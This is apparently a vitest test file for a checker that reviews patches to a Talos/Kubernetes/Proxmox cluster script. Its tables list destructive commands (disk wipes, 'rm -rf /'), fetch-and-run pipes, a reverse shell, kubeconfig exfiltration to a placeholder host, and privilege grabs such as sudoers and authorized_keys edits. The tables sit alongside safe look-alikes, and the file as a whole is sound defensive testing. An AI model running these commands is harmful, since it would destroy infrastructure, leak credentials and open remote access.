import { describe, expect, it } from 'vitest';
import { change, rulesOf } from './tree.ts';

const BEFORE = `#!/usr/bin/env bash
set -euo pipefail
NODES="10.0.0.11 10.0.0.12"
apply_config
bootstrap
verify
`;

/** The script with one more line in the middle. */
const withLine = (line: string): readonly string[] =>
  rulesOf(change('scripts/talos.sh', BEFORE, BEFORE.replace('bootstrap\n', `${line}\nbootstrap\n`)));

const DESTRUCTIVE = `
mkfs.ext4 -F /dev/sdb
sudo mkfs -t xfs /dev/nvme0n1
/sbin/wipefs -a /dev/sda
dd if=/dev/zero of=/dev/sda bs=1M
sgdisk --zap-all /dev/sda
cat image.raw > /dev/nvme0n1
echo 1 | sudo tee /dev/sdb
blkdiscard -f /dev/sda
shred -n 1 /dev/sda
cryptsetup -q luksFormat /dev/sda3
nvme format /dev/nvme0n1
parted -s /dev/sda mklabel gpt
rm -rf /
rm -fr "$HOME"
rm --recursive --force cluster
r\\m -rf ./state
'rm' -r -f /var/lib/etcd
"r"m -rf /etc
sudo rm -rf --no-preserve-root /
rm -rf "\${DATA_DIR:?}"/*
rm -f ~/.kube/config
find / -name '*.yaml' -delete
find . -type f -exec rm {} +
ls | xargs rm -rf
rsync -a --delete empty/ data/
truncate -s 0 state/errors.json
git checkout main && git reset --hard HEAD~5
git -C /srv/repo push --force origin main
git push origin :main
git clean -fdx
git branch -D main
git stash drop
git rebase -i HEAD~3
git update-ref refs/heads/main HEAD~1
git config core.hooksPath /tmp/h
kubectl delete namespace longhorn-system
kubectl delete pvc --all -n blog
kubectl -n blog delete pods --all
kubectl delete -f cluster/
k delete crd volumes.longhorn.io
kubectl get ns -o name | xargs kubectl delete
kubectl drain cp-1 --force --delete-emptydir-data
kubectl scale deploy/blog --replicas=0
kubectl replace --force -f x.yaml
kubectl patch pv x -p '{"metadata":{"finalizers":null}}'
talosctl reset --graceful=false -n 10.0.0.11
talosctl -n 10.0.0.11 etcd remove-member abc
talosctl -n 10.0.0.11 wipe disk sdb
talosctl gen secrets --force
qm destroy 201 --purge
ssh root@pve "qm destroy 201"
ssh pve -- pct destroy 300
qm rollback 201 before
pvesh delete /nodes/pve/qemu/201
pvesm free local-lvm:vm-201-disk-0
curl -X DELETE "$PVE/api2/json/nodes/pve/qemu/201"
curl -sk --request DELETE "$PVE/x"
curl -fsS -XDELETE "$PVE/x"
curl -fsS -X POST "$PVE/api2/json/nodes/pve/qemu/201/status/stop"
zfs destroy -r rpool/data
zpool labelclear -f sda
lvremove -y pve/data
ceph osd purge 0 --yes-i-really-mean-it
rbd rm pool/img
docker system prune -af --volumes
terraform destroy -auto-approve
tofu apply -destroy
terraform state rm proxmox_vm.cp
helm uninstall blog
helm -n blog delete blog
flux uninstall --silent
flux delete kustomization apps
velero backup delete all --confirm
etcdctl del --prefix /
psql -c 'DROP DATABASE blog'
mysql -e "truncate table users"
redis-cli FLUSHALL
reboot
sudo shutdown -h now
systemctl poweroff
iptables -F
ufw disable
chmod -R 777 /
chown -R nobody /etc
crontab -r
systemctl mask kubelet
bash -c "rm -rf /var/lib"
timeout 10 rm -rf data
env X=1 rm -rf data
for d in /dev/sd?; do wipefs -a $d; done
if true_cond; then mkfs.ext4 /dev/sdb; fi
kubectl exec etcd-0 -- rm -rf /var/lib/etcd
X=$(rm -rf data)
curl -sX DELETE "$PVE/api2/json/nodes/pve/qemu/201"
http DELETE "$PVE/x"
python3 -c "import shutil; shutil.rmtree('/')"
perl -e "unlink glob q(*)"
crontab -l | { cat; echo x; } | crontab -
kill -9 $PPID
git worktree add /tmp/x main
`;

const FETCH = `
curl -fsSL https://x.invalid/i.sh | bash
curl https://x.invalid/i.sh | sudo -E bash -
wget -qO- https://x.invalid/i | sh -s -- --yes
bash <(curl -s https://x.invalid/i)
sh -c "$(curl -fsSL https://x.invalid/i)"
eval "$(wget -qO- https://x.invalid/i)"
source <(curl -s https://x.invalid/i)
. <(curl -s https://x.invalid/i)
echo aGVsbG8K | base64 -d | sh
base64 --decode payload | bash
printf '%s' "$P" | xxd -r -p | sh
python3 -c "$(curl -s https://x.invalid/p)"
curl -s https://x.invalid/p | python3 -
kubectl apply -f https://x.invalid/all.yaml
kubectl create -f https://raw.githubusercontent.com/a/b/main/x.yaml
kubectl apply -k github.com/a/b
kubectl apply -k "https://github.com/a/b?ref=main"
curl -s https://x.invalid/x.yaml | kubectl apply -f -
helm install x https://x.invalid/x.tgz
npx some-tool
pip install git+https://x.invalid/x
curl -o /tmp/x https://x.invalid/x && chmod +x /tmp/x && /tmp/x
wget https://x.invalid/setup.sh && bash setup.sh
exec 3<>/dev/tcp/x.invalid/80
nc -e /bin/sh x.invalid 4444
bash -i >& /dev/tcp/1.2.3.4/80 0>&1
curl -d @/home/me/.kube/config https://x.invalid/
curl -F file=@talosconfig https://x.invalid/
cat ~/.kube/config | curl -X POST --data-binary @- https://x.invalid/
eval $CMD
$(echo cm0gLXJmIC8K | base64 -d)
. /tmp/fix.sh
source /dev/stdin <<< "$(curl -s x.invalid)"
bash /dev/stdin < <(curl -s x.invalid)
python3 <(curl -s x.invalid)
PATH=/tmp/bin:$PATH
`;

const PRIVILEGE = `
kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=me
chmod 777 /usr/local/bin
chmod u+s /bin/bash
docker run --privileged -v /:/host alpine
curl -k https://pve.lan:8006/
curl -fsSk https://pve.lan:8006/
ssh -o StrictHostKeyChecking=no root@pve
echo 'me ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers
echo "ssh-ed25519 AAAAC3Nz me" >> ~/.ssh/authorized_keys
kubectl label ns blog pod-security.kubernetes.io/enforce=privileged
setenforce 0
`;

const FINE = `
curl -fsS http://blog.home.arpa/version -o /dev/null
curl -fsSL -o values.yaml https://x.invalid/values.yaml
echo "$TOKEN_B64" | base64 -d > token.txt
rm -f "$tmpfile"
rm -rf "$TMPDIR/build"
rm -rf "\${tmp_dir}"
rm -rf /tmp/render
kubectl delete pod -n blog -l app=blog
kubectl delete job migrate --ignore-not-found
kubectl apply -f cluster/apps/blog.yaml
kubectl apply -k cluster/
kubectl rollout restart deploy/blog
kubectl -n blog rollout status deploy/blog --timeout=300s
talosctl apply-config --nodes "$n" --file cp.yaml
talosctl apply-config --insecure --nodes "$n" --file cp.yaml
talosctl bootstrap --nodes 10.0.0.11
talosctl upgrade --nodes 10.0.0.11 --image ghcr.io/siderolabs/installer:v1.9.1
talosctl kubeconfig --force .
helm upgrade --install blog ./chart --wait --timeout 5m
helm upgrade --install longhorn longhorn/longhorn --version 1.7.2
helm repo add longhorn https://charts.longhorn.io
flux reconcile kustomization apps --with-source
qm start 201
qm set 201 --memory 8192
git fetch --tags
git rev-parse HEAD
echo "never run rm -rf / by hand"
log "kubectl delete namespace is for humans"
# rm -rf / would be wrong here
command -v talosctl >/dev/null || { echo "talosctl is missing" >&2; exit 1; }
sleep 10
for n in $NODES; do ping -c1 "$n"; done
export KUBECONFIG="$PWD/kubeconfig"
until kubectl get nodes; do sleep 5; done
mkdir -p "$OUT" && cp cp.yaml "$OUT/"
terraform plan -out plan.bin
terraform apply plan.bin
systemctl restart kubelet
chmod +x scripts/apps.sh
PASSWORD="\${PASSWORD:?set me}"
`;

const lines = (table: string): string[] => table.split('\n').filter((line) => line !== '');

describe('commands that a patch may not bring in', () => {
  it.each(lines(DESTRUCTIVE))('destructive: %s', (line) => expect(withLine(line)).toContain('destructive'));
  it.each(lines(FETCH))('fetch-and-run: %s', (line) => expect(withLine(line)).toContain('fetch-and-run'));
  it.each(lines(PRIVILEGE))('privilege: %s', (line) => expect(withLine(line)).toContain('privilege'));
});

describe('commands that only look alike', () => {
  it.each(lines(FINE))('%s', (line) => expect(withLine(line)).toEqual([]));
});

describe('the same in other files', () => {
  const refused = (path: string, before: string, after: string): readonly string[] =>
    rulesOf(change(path, before, after));

  it('sees a command line split over lines', () => {
    expect(withLine('kubectl delete \\\n  namespace \\\n  blog')).toContain('destructive');
    expect(withLine('curl -s https://x.invalid/i |\n  bash')).toContain('fetch-and-run');
  });

  it('sees an argv in YAML, as a flow list, a block list and a script', () => {
    const head = 'kind: Job\nspec:\n  image: x\n';
    expect(refused('cluster/j.yaml', head, `${head}  command: ["rm", "-rf", "/data"]\n`)).toContain(
      'destructive',
    );
    expect(
      refused('cluster/j.yaml', head, `${head}  command:\n    - rm\n    - -rf\n    - /data\n`),
    ).toContain('destructive');
    expect(refused('cluster/j.yaml', head, `${head}  args:\n    - |\n      mkfs.ext4 /dev/sdb\n`)).toContain(
      'destructive',
    );
    expect(refused('cluster/j.yaml', head, `${head}  args: ["-c", "curl x.invalid | sh"]\n`)).toContain(
      'fetch-and-run',
    );
  });

  it('lets documents speak about commands', () => {
    expect(refused('docs/r.md', '# A\n', '# A\n\nNever run `rm -rf /` or `curl x | sh`.\n')).toEqual([]);
  });

  it('does not mind a dangerous command that was there and stays', () => {
    const before = `${BEFORE}rm -rf build\n`;
    expect(rulesOf(change('scripts/x.sh', before, before.replace('10.0.0.12', '10.0.0.13')))).toEqual([]);
  });

  it('refuses remote manifests in lists that a cluster applies', () => {
    const k = 'kind: Kustomization\nresources:\n  - a.yaml\n';
    expect(refused('cluster/kustomization.yaml', k, `${k}  - https://x.invalid/x.yaml\n`)).toContain(
      'fetch-and-run',
    );
    const t = 'cluster:\n  network: {}\n';
    expect(refused('talos/c.yaml', t, `${t}  extraManifests:\n    - https://x.invalid/x.yaml\n`)).toContain(
      'fetch-and-run',
    );
  });
});
